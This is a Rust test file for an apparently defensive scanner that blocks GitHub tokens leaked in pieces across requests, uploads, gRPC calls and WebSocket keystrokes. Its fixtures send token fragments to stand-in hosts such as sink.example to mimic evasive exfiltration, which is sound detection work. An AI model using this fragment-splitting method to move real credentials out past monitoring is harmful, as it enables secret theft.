//! A secret in pieces over several messages of one session is found in the message that completes it.

mod common;

use std::time::Duration;

use common::{post, scanner, scanner_with};
use scanner::{
    Answer, Body, Content, ExampleKind, InMemory, Message, Opcode, Scanner, Session, Verdict, WebSocket,
};

fn token(scanner: &Scanner) -> String {
    let mut tokens = scanner.rules().examples(3).filter(|example| example.kind == ExampleKind::Token);
    let token =
        tokens.find(|example| *example.rule == *"github.personal-access-token").expect("there is one");
    String::from_utf8(token.text).expect("ASCII")
}

fn in_session<'a>(mut message: Message<'a>, session: &'a str, flow: &'a str) -> Message<'a> {
    message.session = Some(session.into());
    message.flow = Some(flow.into());
    message
}

/// Asks for `url` in session `s`, at this minute.
fn get(scanner: &Scanner, memory: &InMemory, url: &str, flow: &str, minute: u64) -> Answer {
    let session = Session { memory, now: Duration::from_secs(60 * minute) };
    let message = in_session(post(url, &[], b""), "s", flow);
    scanner.scan_in_session(&message, session, &|| false).expect("the message is within the limits")
}

#[test]
fn pieces_meet_over_messages_whatever_stands_between() {
    let (scanner, memory) = (scanner(), InMemory::new());
    let token = token(&scanner);
    let pieces: Vec<&str> = [&token[..13], &token[13..25], &token[25..]].into();
    let ordinary = "https://other.example/page?lang=en&page=2&sort=name";
    for (flow, piece) in pieces.iter().take(2).enumerate() {
        let url = format!("https://{flow}.sink.example/collect?n={flow}&d={piece}");
        assert_eq!(get(&scanner, &memory, &url, &format!("p{flow}"), 0).verdict, Verdict::Allow);
        assert_eq!(get(&scanner, &memory, ordinary, &format!("o{flow}"), 0).verdict, Verdict::Allow);
    }
    let last = get(&scanner, &memory, &format!("https://sink.example/collect?n=2&d={}", pieces[2]), "p2", 1);
    assert_eq!(last.verdict, Verdict::Block);
    assert_eq!(last.findings[0].decoded_by, ["session", "pieces"]);
    assert!(last.coverage.session);
    let again = get(&scanner, &memory, &format!("https://sink.example/collect?n=2&d={}", pieces[2]), "p3", 1);
    assert_eq!(again.verdict, Verdict::Block, "whoever tries again is stopped again");
}

#[test]
fn what_is_old_is_forgotten() {
    let (scanner, memory) = (scanner_with("[limits]\nsession_minutes = 5\n"), InMemory::new());
    let token = token(&scanner);
    let (first, last) = token.split_at(20);
    get(&scanner, &memory, &format!("https://sink.example/?d={first}"), "a", 0);
    assert_eq!(memory.sessions(), 1);
    let answer = get(&scanner, &memory, &format!("https://sink.example/?d={last}"), "b", 6);
    assert_eq!(answer.verdict, Verdict::Allow);
    assert_eq!(memory.sessions(), 0, "nothing is left to remember");
}

#[test]
fn ordinary_messages_and_whole_secrets_leave_nothing() {
    let (scanner, memory) = (scanner(), InMemory::new());
    let token = token(&scanner);
    let urls = [
        "https://api.example.com/v1/items?page=2&sort=name".to_owned(),
        "https://cdn.example.com/assets/index-4f3a9c1d.js".to_owned(),
        format!("https://sink.example/?d={token}"),
    ];
    for (number, url) in urls.iter().enumerate() {
        get(&scanner, &memory, url, &number.to_string(), 0);
        assert_eq!(memory.sessions(), 0, "{number}");
    }
}

#[test]
fn memory_is_bounded_and_shows_nothing() {
    let (scanner, memory) = (scanner_with("[limits]\nsession_bytes = 200\n"), InMemory::new());
    let token = token(&scanner);
    let (first, last) = token.split_at(20);
    get(&scanner, &memory, &format!("https://sink.example/?d={first}"), "a", 0);
    for number in 0..30 {
        get(&scanner, &memory, &format!("https://other.example/?q=word{number}"), &format!("o{number}"), 0);
    }
    let answer = get(&scanner, &memory, &format!("https://sink.example/?d={last}"), "b", 0);
    assert_eq!(answer.verdict, Verdict::Allow, "what came first went first");
    assert!(!format!("{memory:?}").contains(first));
}

#[test]
fn without_a_session_nothing_is_remembered() {
    let (scanner, memory) = (scanner(), InMemory::new());
    let token = token(&scanner);
    let (first, last) = token.split_at(20);
    for piece in [first, last] {
        let url = format!("https://sink.example/?d={piece}");
        let session = Session { memory: &memory, now: Duration::ZERO };
        let answer = scanner.scan_in_session(&post(&url, &[], b""), session, &|| false).expect("a verdict");
        assert_eq!((answer.verdict, answer.coverage.session), (Verdict::Allow, false));
        assert!(answer.coverage.complete);
    }
    assert_eq!(memory.sessions(), 0);
}

#[test]
fn the_head_of_a_stream_is_a_message_of_its_session() {
    let (scanner, memory) = (std::sync::Arc::new(scanner()), InMemory::new());
    let token = token(&scanner);
    let (first, last) = token.split_at(20);
    let (first, last) =
        (format!("https://sink.example/?d={first}"), format!("https://sink.example/up?d={last}"));
    let session = Session { memory: &memory, now: Duration::ZERO };
    let stream = |url: &str, flow: &str| {
        let head = in_session(post(url, &[("content-length", "90000000")], b""), "s", flow);
        scanner.stream_in_session(&head, session).expect("it can flow").0
    };
    assert_eq!(stream(&first, "a").verdict, Verdict::Allow);
    assert_eq!(get(&scanner, &memory, &last, "b", 0).verdict, Verdict::Block);
    assert_eq!(stream(&last, "c").verdict, Verdict::Block);
}

/// Streams a body of this type in chunks of so many bytes; the verdict and what went on.
fn upload(
    scanner: &std::sync::Arc<Scanner>,
    memory: &InMemory,
    (kind, body): (&str, &[u8]),
    chunk: usize,
    flow: &str,
) -> (Verdict, Vec<u8>) {
    let session = Session { memory, now: Duration::ZERO };
    let head = in_session(post("https://sink.example/up", &[("content-type", kind)], b""), "s", flow);
    let (answer, mut stream) = scanner.stream_in_session(&head, session).expect("it can flow");
    assert_eq!(answer.verdict, Verdict::Allow);
    let mut gone = Vec::new();
    for chunk in body.chunks(chunk) {
        gone.extend_from_slice(&stream.push_in_session(chunk, session).expect("a verdict"));
    }
    gone.extend(stream.finish_in_session(session).expect("a verdict"));
    assert!(stream.answer().coverage.session || stream.verdict() == Verdict::Block);
    (stream.verdict(), gone)
}

/// Bodies that have this value, of every kind that has values.
fn with_value(value: &str) -> Vec<(&'static str, String)> {
    let part = "--b\r\ncontent-disposition: form-data; name=\"d\"\r\n\r\n";
    vec![
        ("application/json", format!(r#"{{"n": 1, "d": "{value}", "lang": "en"}}"#)),
        ("application/x-www-form-urlencoded", format!("n=1&d={value}&lang=en")),
        ("multipart/form-data; boundary=b", format!("{part}{value}\r\n--b--\r\n")),
        ("text/plain", format!("n1\n{value}\nend\n")),
    ]
}

#[test]
fn the_values_of_a_body_that_flows_are_joined_to_those_of_other_messages() {
    let scanner = std::sync::Arc::new(scanner());
    let token = token(&scanner);
    let (first, last) = token.split_at(20);
    for ((kind, begin), (_, end)) in with_value(first).into_iter().zip(with_value(last)) {
        for chunk in [7, 100_000] {
            let memory = InMemory::new();
            let (verdict, gone) = upload(&scanner, &memory, (kind, begin.as_bytes()), chunk, "a");
            assert_eq!((verdict, gone), (Verdict::Allow, begin.clone().into_bytes()), "{kind}");
            let (verdict, gone) = upload(&scanner, &memory, (kind, end.as_bytes()), chunk, "b");
            assert_eq!(verdict, Verdict::Block, "{kind} in chunks of {chunk}");
            assert!(gone.len() < end.len(), "{kind} does not look whole");
            // What was begun in a stream is ended in a whole message, and the other way round.
            let url = format!("https://sink.example/?d={last}");
            assert_eq!(get(&scanner, &memory, &url, "c", 0).verdict, Verdict::Block, "{kind}");
        }
    }
    let memory = InMemory::new();
    get(&scanner, &memory, &format!("https://sink.example/?d={first}"), "a", 0);
    let (_, end) = &with_value(last)[0];
    let (verdict, gone) = upload(&scanner, &memory, ("application/json", end.as_bytes()), 100_000, "b");
    assert_eq!(verdict, Verdict::Block);
    assert!(!String::from_utf8_lossy(&gone).contains(last), "it is held until it was looked at");
}

#[test]
fn the_beginning_of_a_long_body_is_looked_at_before_it_goes() {
    let (scanner, memory) = (std::sync::Arc::new(scanner()), InMemory::new());
    let token = token(&scanner);
    let (first, last) = token.split_at(20);
    get(&scanner, &memory, &format!("https://sink.example/?d={first}"), "a", 0);
    let body = format!("d={last}&text={}", "ordinary+words+".repeat(10_000));
    let form = ("application/x-www-form-urlencoded", body.as_bytes());
    let (verdict, gone) = upload(&scanner, &memory, form, 64 << 10, "b");
    assert_eq!((verdict, gone.len()), (Verdict::Block, 0));
}

#[test]
fn pieces_among_the_fields_of_one_upload_are_found_without_a_session() {
    let scanner = std::sync::Arc::new(scanner());
    let token = token(&scanner);
    let (first, last) = token.split_at(20);
    let body = format!("n=1&a={first}&b={last}&text={}", "ordinary+words+".repeat(10_000));
    let head = post("https://sink.example/up", &[("content-type", "application/x-www-form-urlencoded")], b"");
    let (_, mut stream) = scanner.stream(&head).expect("it can flow");
    assert_eq!(stream.push(body.as_bytes()).expect("a verdict").len(), 0);
    assert_eq!(stream.findings()[0].decoded_by, ["pieces"]);
}

#[test]
fn an_ordinary_upload_leaves_nothing_and_a_scan_of_the_whole_takes_its_place() {
    let (scanner, memory) = (std::sync::Arc::new(scanner()), InMemory::new());
    let token = token(&scanner);
    for (kind, body) in with_value("summer") {
        assert_eq!(upload(&scanner, &memory, (kind, body.as_bytes()), 100, "a").0, Verdict::Allow);
    }
    assert_eq!(memory.sessions(), 0);
    // A proxy that decides to hold a body after all scans it again, whole: it was sent once.
    let (kind, body) = &with_value(&token[..20])[0];
    upload(&scanner, &memory, (kind, body.as_bytes()), 100_000, "a");
    let session = Session { memory: &memory, now: Duration::ZERO };
    let headers = [("content-type", *kind)];
    let whole = in_session(post("https://sink.example/up", &headers, body.as_bytes()), "s", "a");
    let answer = scanner.scan_in_session(&whole, session, &|| false).expect("a verdict");
    assert_eq!(answer.verdict, Verdict::Allow);
}

/// A message of gRPC with one text in its first field.
fn call(words: &str) -> Vec<u8> {
    let length = u8::try_from(words.len()).expect("it is short");
    [&[0, 0, 0, 0, length + 2, 0x0a, length], words.as_bytes()].concat()
}

#[test]
fn pieces_meet_over_the_messages_of_a_call_that_goes_on() {
    let (scanner, memory) = (std::sync::Arc::new(scanner()), InMemory::new());
    let token = token(&scanner);
    let session = Session { memory: &memory, now: Duration::ZERO };
    let head = post("https://sink.example/s.S/m", &[("content-type", "application/grpc")], b"");
    let head = in_session(head, "s", "call");
    let (_, mut stream) = scanner.stream_in_session(&head, session).expect("it can flow");
    let mut push =
        |words: &str| stream.push_in_session(&call(words), session).expect("good bytes").into_owned();
    for words in ["hello", &token[..13], "an ordinary text", &token[13..25]] {
        assert_eq!(push(words), call(words));
    }
    assert_eq!(push(&token[25..]), b"");
    assert_eq!(stream.findings()[0].decoded_by, ["session", "pieces"]);
    assert_eq!(stream.verdict(), Verdict::Block);
}

#[test]
fn pieces_among_the_fields_of_one_call_are_found_without_a_session() {
    let scanner = std::sync::Arc::new(scanner());
    let token = token(&scanner);
    let fields: Vec<u8> = [&token[..13], &token[13..25], &token[25..]]
        .iter()
        .flat_map(|piece| call(piece)[5..].to_vec())
        .collect();
    let length = u8::try_from(fields.len()).expect("it is short");
    let body = [&[0, 0, 0, 0, length], &fields[..]].concat();
    let message = post("https://sink.example/s.S/m", &[("content-type", "application/grpc")], &body);
    let answer = scanner.scan(&message, &|| false).expect("within the limits");
    assert_eq!(answer.verdict, Verdict::Block);
    assert_eq!(answer.findings[0].decoded_by, ["pieces"]);
}

/// What a client types into a WebSocket.
fn typed<'a>(keys: &'a [u8], flow: &'a str) -> Message<'a> {
    let heard = WebSocket {
        url: b"wss://shell.example/".into(),
        from_client: true,
        opcode: Opcode::Text,
        body: Body::Bytes(keys.into()),
    };
    let content = Content::WebSocket(heard);
    in_session(Message { id: None, session: None, flow: None, connect: None, content }, "s", flow)
}

#[test]
fn a_secret_that_is_typed_key_by_key_does_not_end() {
    let scanner = scanner();
    let token = token(&scanner);
    for width in [1, 2] {
        let memory = InMemory::new();
        let session = Session { memory: &memory, now: Duration::ZERO };
        let mut verdicts = Vec::new();
        for keys in token.as_bytes().chunks(width) {
            for (flow, keys) in [("heartbeat", &b"2"[..]), ("shell", keys)] {
                let answer = scanner.scan_in_session(&typed(keys, flow), session, &|| false).expect("small");
                verdicts.push(answer.verdict);
            }
        }
        let last = verdicts.pop();
        assert_eq!(last, Some(Verdict::Block), "{width}");
        assert!(verdicts.iter().all(|verdict| *verdict == Verdict::Allow), "{width}");
    }
}

#[test]
fn pieces_in_one_flow_meet_whatever_others_send_meanwhile() {
    let scanner = scanner();
    let memory = InMemory::new();
    let session = Session { memory: &memory, now: Duration::ZERO };
    let token = token(&scanner);
    let mut verdicts = Vec::new();
    for piece in [&token[..13], &token[13..26], &token[26..]] {
        for (flow, words) in [("a", "ghp_"), ("b", "0123456789abcdef"), ("c", "ghp_x"), ("it", piece)] {
            let answer = scanner.scan_in_session(&typed(words.as_bytes(), flow), session, &|| false);
            verdicts.push(answer.expect("small").verdict);
        }
    }
    assert_eq!(verdicts.pop(), Some(Verdict::Block));
    assert!(verdicts.iter().all(|verdict| *verdict == Verdict::Allow));
}

#[test]
fn what_is_typed_without_a_secret_passes() {
    let (scanner, memory) = (scanner(), InMemory::new());
    let session = Session { memory: &memory, now: Duration::ZERO };
    let words = "git log --oneline 4111111111111111 deadbeefdeadbeefdeadbeefdeadbeefdeadbeef password=hunter2x \
                 3f2504e0-4f89-11d3-9a0c-0305e82c3301 192.168.0.1:8080 ls -la ghp_ AKIA sk- 2222222222222222";
    for key in words.as_bytes() {
        let answer = scanner.scan_in_session(&typed(&[*key], "shell"), session, &|| false).expect("small");
        assert_eq!(answer.verdict, Verdict::Allow, "{}", char::from(*key));
    }
}
